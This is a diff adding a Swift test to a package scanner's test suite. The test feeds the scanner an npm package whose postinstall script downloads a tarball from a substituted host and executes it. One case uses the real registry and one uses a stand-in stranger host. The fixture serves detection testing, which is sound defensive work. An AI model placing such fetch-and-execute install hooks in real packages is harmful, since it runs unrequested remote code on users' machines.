@@ -83,6 +83,38 @@ struct ProgramTests {
         #expect((found.answer == .pass) == isProgram, "\(found.marks)")
     }
 
+    static let fetcher = """
+        const fs = require('fs'), cp = require('child_process'), https = require('https');
+        const path = require('path');
+        function fetch(url) {
+          return new Promise((done) => https.get(url, (answer) => {
+            const pieces = [];
+            answer.on('data', (piece) => pieces.push(piece));
+            answer.on('end', () => done(Buffer.concat(pieces)));
+          }));
+        }
+        function check(...command) { cp.execFileSync(command.shift(), command); }
+        const place = path.join(__dirname, 'bin', 'x');
+        fetch('https://HOST/@x/linux-x64/-/linux-x64-1.0.0.tgz').then((bytes) => {
+          fs.writeFileSync(place, bytes);
+          check(process.execPath, place);
+        });
+        """
+
+    @Test(
+        "is fetched from the registry that the package came from, or from a stranger",
+        arguments: [("registry.npmjs.org", false), ("registry.npmjs.example", true)]
+    )
+    func fetches(host: String, isDoubted: Bool) {
+        let manifest = #"{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}"#
+        let script = Self.fetcher.replacing("HOST", with: host)
+        let found = KindsTests.inspect(
+            [("package.json", manifest), ("i.js", script)],
+            name: "x-1.tgz"
+        )
+        #expect((found.answer != .pass) == isDoubted, "\(found.marks)")
+    }
+
     @Test(
         "is built with nothing that an address may change",
         arguments: [
